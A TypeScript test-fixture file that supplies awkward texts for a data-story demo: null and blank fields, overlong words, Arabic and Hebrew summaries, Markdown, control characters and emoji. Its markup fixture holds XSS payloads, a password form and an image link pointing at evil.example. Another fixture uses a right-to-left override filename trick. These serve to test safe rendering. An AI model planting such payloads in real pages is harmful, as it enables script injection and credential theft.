import type { CaseId } from '../demo-ids.ts';
import { latestRainFacts } from '../stories/seattle-rain.ts';
import { jobsFacts, readJobs } from '../stories/employment.ts';
import type { CaseTexts } from './changed-words.ts';
import { co2Walk } from './co2-walk.ts';

/** The texts of the awkward sources. */
export function caseTexts(): Partial<Record<CaseId, CaseTexts>> {
  return {
    src_case_null_name: { name: null },
    src_case_null_short: { short: null },
    src_case_null_long: { long: null },
    src_case_null_all: { name: null, short: null, long: null },
    src_case_blank: { name: '   ', short: '', long: ' \n\n ' },
    src_case_long_text: co2Walk(),
    src_case_long_word: {
      name: 'W'.repeat(300),
      short: 'unbreakable'.repeat(40),
      long: `**${'x'.repeat(900)}**\n\n- ${'y'.repeat(900)}\n\n\`${'z'.repeat(900)}\``,
    },
    src_case_arabic: arabic(),
    src_case_hebrew: hebrew(),
    src_case_markup: MARKUP,
    src_case_markdown: MARKDOWN,
    src_case_controls: CONTROLS,
    src_case_emoji: EMOJI,
  };
}

const MARKUP: CaseTexts = {
  name: '<b>Revenue</b> & <script>alert("name")</script>',
  short: '<img src=x onerror=alert(1)> rose 1.9% &amp; "held" <style>*{display:none}</style>',
  long: [
    '<script>alert("long")</script>',
    '<iframe src="javascript:alert(1)"></iframe> <svg onload=alert(1)><a href="javascript:alert(2)">go</a></svg>',
    '[a link](javascript:alert(3)) and ![a picture](https://evil.example/x.png?leak=1 "title")',
    '**<u onmouseover=alert(4)>bold</u>** and `</code></pre><script>alert(5)</script>`',
    '- </li></ul><form action=https://evil.example><input name=password>\n- ${alert(6)} {{constructor.constructor("alert(7)")()}}',
    '<!-- a comment that never ends',
  ].join('\n\n'),
};

const MARKDOWN: CaseTexts = {
  name: 'What *is* read as Markdown',
  short: 'The short summary with **strong**, *emphasis* and `code`.',
  long: [
    'One paragraph with **strong**, *emphasis*, _emphasis_, **strong with *emphasis* inside**, and `code with **stars**`.',
    '- a list\n- with **strong**\n- and `code`',
    '1. numbered\n2. as well\n10. up to ten',
    '# No heading\n\n> no quotation\n\n| no | table |\n| --- | --- |',
    'A star * alone, 2 * 3 * 4, snake_case_names, an unclosed **strong, an unclosed `code.',
    'https://example.com stays text, and so does <https://example.com>.',
    'A line\nthat goes on\nover three lines.',
    '```\nno fence\n```',
  ].join('\n\n'),
};

const CONTROLS: CaseTexts = {
  name: 'Invoice \u202Efdp.exe\u202C \u200B\u200D\uFEFF',
  short: 'Tabs\tand\u0007 bells, \u2066isolates\u2069, a soft\u00ADhyphen, line\u2028separators and combining z̸̢̛a̷l̵g̶o.',
  long: 'Before\r\n\r\nAfter a Windows line break.\n\n\u202EReversed until the end of this paragraph\n\nNo longer reversed.',
};

const EMOJI: CaseTexts = {
  name: '📈 Growth 👩🏽‍💻🏳️‍🌈',
  short: '🎉 Payrolls are 🚀 up 1.9% 🇺🇸 👨‍👩‍👧‍👦',
  long: '**🟢 Good:** up in 4️⃣ of 5️⃣ regions.\n\n- 🥇 West\n- 🥈 South\n- 🥉 North\n\n`👾` *fin* 🏁',
};

function arabic(): CaseTexts {
  const { last, yearBefore, peak, trough } = jobsFacts(readJobs());
  const number = new Intl.NumberFormat('ar-EG', { maximumFractionDigits: 1, minimumFractionDigits: 1 });
  const month = new Intl.DateTimeFormat('ar-EG', { month: 'long', year: 'numeric', timeZone: 'UTC' });
  const share = new Intl.NumberFormat('ar-EG', { style: 'percent', minimumFractionDigits: 1 });
  const inMillions = (thousands: number) => `${number.format(thousands / 1000)} مليون`;
  return {
    name: 'الوظائف في الولايات المتحدة',
    short: `بلغ عدد الوظائف ${inMillions(last.jobs)} في ${month.format(new Date(last.month))}، بزيادة ${share.format(last.jobs / yearBefore.jobs - 1)} خلال عام.`,
    long: [
      `**خسر سوق العمل ${inMillions(peak.jobs - trough.jobs)} وظيفة في الأزمة**، من ${month.format(new Date(peak.month))} إلى ${month.format(new Date(trough.month))}.`,
      `- الذروة: **${inMillions(peak.jobs)}**\n- القاع: **${inMillions(trough.jobs)}**`,
      'المصدر: `Bureau of Labor Statistics`، مكتب إحصاءات العمل.',
    ].join('\n\n'),
  };
}

function hebrew(): CaseTexts {
  const { wettest, driest, total, winterShare, year } = latestRainFacts();
  const number = new Intl.NumberFormat('he', { maximumFractionDigits: 0 });
  const share = new Intl.NumberFormat('he', { style: 'percent' });
  const month = (index: number) =>
    new Intl.DateTimeFormat('he', { month: 'long', timeZone: 'UTC' }).format(Date.UTC(year, index - 1));
  return {
    name: 'גשם בסיאטל',
    short: `${month(wettest.month)} היה החודש הגשום ביותר בשנת ${year}, עם ${number.format(wettest.rain)} מ״מ.`,
    long: [
      `**${share.format(winterShare)} מהגשם ירדו בין אוקטובר למרץ.** בסך הכול ירדו ${number.format(total)} מ״מ.`,
      `- הגשום ביותר: ${month(wettest.month)}, **${number.format(wettest.rain)} מ״מ**\n- היבש ביותר: ${month(driest.month)}, **${number.format(driest.rain)} מ״מ**`,
      'המקור: `NOAA`, תחנת Seattle.',
    ].join('\n\n'),
  };
}
